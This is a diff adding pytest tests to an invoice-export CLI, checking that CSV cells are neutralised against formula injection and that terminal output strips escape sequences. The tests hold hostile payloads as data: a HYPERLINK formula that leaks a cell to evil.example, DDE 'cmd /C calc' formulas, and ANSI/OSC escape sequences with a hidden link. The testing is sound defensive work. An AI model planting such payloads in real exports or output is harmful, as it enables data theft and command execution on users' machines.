@@ -23,9 +23,10 @@ from typer.testing import CliRunner
 
 from chorus_etl import db
 from chorus_etl.settings import reset_settings_cache
+from chorus_etl.untrusted import CONTROL_CHARACTERS, FORMULA_TRIGGERS
 from chorus_pro.simulator import SimulatorHandle
 from cli import app
-from cli.invoices import LIST_COLUMNS, OVERDUE_COLUMNS
+from cli.invoices import LIST_COLUMNS, NUMERIC_COLUMNS, OVERDUE_COLUMNS
 from flows.deposit import deposit
 from flows.ingest import ingest
 from flows.reconcile import reconcile
@@ -39,7 +40,7 @@ from schemas.warehouse import (
 )
 from tasks.reconcile.overdue import find_overdue
 from tasks.sample.export import generate_export
-from tests.flows.helpers import configure
+from tests.flows.helpers import configure, edit_export
 
 ANTIGONE, ARTENREEL = "51858054300107", "47840796800054"
 
@@ -82,6 +83,81 @@ def lived(
     simulator_server.control.reset()
     reset_settings_cache()
     return Lived(url, as_of)
+
+
+#: Text a spreadsheet would run as a formula, and text a terminal would obey, as hostile exports
+#: and Chorus Pro comments can carry them.
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+MINUS_COMMAND = "-2+3+cmd|' /C calc'!A0"
+ESCAPES = "\x1b[2J\x1b]8;;http://evil.example\x1b\\cliquez ici\x1b]8;;\x1b\\\x07\x9b31m"
+CREDIT_NOTE = "AV-NEG-1"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A warehouse whose data was written by someone hostile: `numbers` name the invoices by
+    what they carry; `others` are the invoices that carry nothing."""
+
+    url: str
+    numbers: dict[str, str]
+    others: frozenset[str]
+
+
+@pytest.fixture(scope="module")
+def hostile(
+    prefect_harness: None,
+    simulator_server: SimulatorHandle,
+    tmp_path_factory: pytest.TempPathFactory,
+) -> Hostile:
+    """Buyer names that are formulas in the export, Chorus Pro comments that are formulas or
+    escape sequences, a buyer name with escape sequences stored before the ingest refused control
+    characters, and a credit note of negative amounts deposited by hand on the portal."""
+    root = tmp_path_factory.mktemp("cli-hostile")
+    url = f"sqlite:///{root / 'warehouse.db'}"
+    simulator = simulator_server
+    simulator.control.reset()
+    today = _sim_today(simulator)
+    manifest = generate_export(root / "export", invoices=6, seed_value=5, today=today)
+    listed = [str(i["invoice_number"]) for i in manifest["invoices"]]  # type: ignore[attr-defined]
+    names = ("formula_buyer", "at_buyer", "formula_comment", "escape_comment", "escape_buyer")
+    numbers = dict(zip(names, listed, strict=False))
+    edit_export(root / "export", numbers["formula_buyer"], client=HYPERLINK)
+    edit_export(root / "export", numbers["at_buyer"], client=AT_SUM)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(root)
+        configure(patch, url, simulator)
+        ingest(root / "export", today=today)
+        deposit()
+        by_number = {i.invoice_number: i for i in _rows(url)}
+        for name, comment in (("formula_comment", MINUS_COMMAND), ("escape_comment", ESCAPES)):
+            chorus_id = by_number[numbers[name]].chorus_invoice_id
+            assert chorus_id is not None
+            simulator.control.set_status(chorus_id, "SUSPENDUE", comment)
+        simulator.control.manual_invoice(
+            supplier_siret=ANTIGONE,
+            numeroFacture=CREDIT_NOTE,
+            codeDestinataire="21670447800017",
+            codeServiceExecutant="28E",
+            montantHtTotal=-10.0,
+            montantTVA=-2.5,
+        )
+        reconcile(as_of=today)
+    engine = db.make_engine(url)
+    try:
+        with Session(engine) as session:
+            stored = session.exec(
+                select(Invoice).where(col(Invoice.invoice_number) == numbers["escape_buyer"])
+            ).one()
+            stored.buyer_name = f"Mairie {ESCAPES} de Colmar"
+            session.add(stored)
+            session.commit()
+    finally:
+        engine.dispose()
+    simulator.control.reset()
+    reset_settings_cache()
+    numbers["credit_note"] = CREDIT_NOTE
+    return Hostile(url, numbers, frozenset(listed) - set(numbers.values()))
 
 
 @pytest.fixture
@@ -445,3 +521,65 @@ def test_both_commands_on_postgresql(
     assert life["deposit_attempts"] and life["status_events"]
     csv_text = _run(runner, "invoices", "--csv").stdout
     assert next(csv.reader(io.StringIO(csv_text), delimiter=";")) == list(LIST_COLUMNS)
+
+
+def test_csv_cells_never_become_formulas_and_negative_amounts_stay_numbers(
+    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """OWASP's CSV injection: a text cell starting with = + - @ tab or CR gets a leading quote,
+    a numeric column's number is left alone; every invoice is still listed, the others as is."""
+    _point_at(monkeypatch, hostile.url)
+    runner = CliRunner()
+    records = _listed(runner, "--limit", "100000")
+    text = _run(runner, "invoices", "--csv", "--limit", "100000").stdout
+    rows = {r["invoice_number"]: r for r in csv.DictReader(io.StringIO(text), delimiter=";")}
+
+    assert set(rows) == {r["invoice_number"] for r in records} >= set(hostile.numbers.values())
+    numbers = hostile.numbers
+    assert rows[numbers["formula_buyer"]]["buyer_name"] == "'" + HYPERLINK
+    assert rows[numbers["at_buyer"]]["buyer_name"] == "'" + AT_SUM
+    assert rows[numbers["formula_comment"]]["last_event_detail"] == "'" + MINUS_COMMAND
+    credit = rows[numbers["credit_note"]]
+    assert (credit["total_ttc_eur"], credit["total_ttc_cents"]) == ("-12.50", "-1250")
+    for row in rows.values():
+        for name, cell in row.items():
+            assert name in NUMERIC_COLUMNS or not cell.startswith(FORMULA_TRIGGERS), (name, cell)
+    assert rows[numbers["escape_buyer"]]["buyer_name"] == "Mairie cliquez ici de Colmar"
+    assert rows[numbers["escape_comment"]]["last_event_detail"] == "cliquez ici"
+    assert CONTROL_CHARACTERS.search(text) is None
+    for record in records:
+        if record["invoice_number"] in hostile.others:
+            expected = {k: "" if v is None else str(v) for k, v in record.items()}
+            assert rows[record["invoice_number"]] == expected, "nothing else changes"
+    states = {r["invoice_number"]: r["state"] for r in records}
+    assert {states[n] for n in hostile.others} == {"deposited"}
+    assert states[numbers["formula_buyer"]] == states[numbers["at_buyer"]] == "deposited"
+
+
+def test_terminal_output_obeys_no_escape_sequence_and_json_stays_faithful(
+    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A buyer's name or a Chorus Pro comment holding escape sequences (clear the screen, a hidden
+    hyperlink, a bell) shows as its text on the terminal; `--json` keeps the data as it is."""
+    _point_at(monkeypatch, hostile.url)
+    runner = CliRunner()
+    numbers = hostile.numbers
+
+    listed = _run(runner, "invoices").stdout
+    assert CONTROL_CHARACTERS.search(listed) is None
+    assert "Mairie cliquez ici de Colmar" in listed
+    assert all(number in listed for number in {*numbers.values(), *hostile.others})
+
+    buyer = _run(runner, "invoice", numbers["escape_buyer"]).stdout
+    comment = _run(runner, "invoice", numbers["escape_comment"]).stdout
+    for shown in (buyer, comment):
+        assert CONTROL_CHARACTERS.search(shown) is None, shown
+    assert "Mairie cliquez ici de Colmar" in buyer
+    assert "SUSPENDUE · since" in comment and "cliquez ici" in comment
+    assert "Chorus Pro statuses (" in comment and "Alerts (" in comment
+
+    (life,) = json.loads(_run(runner, "invoice", numbers["escape_comment"], "--json").stdout)
+    assert life["chorus_status_comment"] == ESCAPES
+    assert ESCAPES in {event["comment"] for event in life["status_events"]}
+    records = {r["invoice_number"]: r for r in _listed(runner, "--limit", "100000")}
+    assert records[numbers["escape_buyer"]]["buyer_name"] == f"Mairie {ESCAPES} de Colmar"
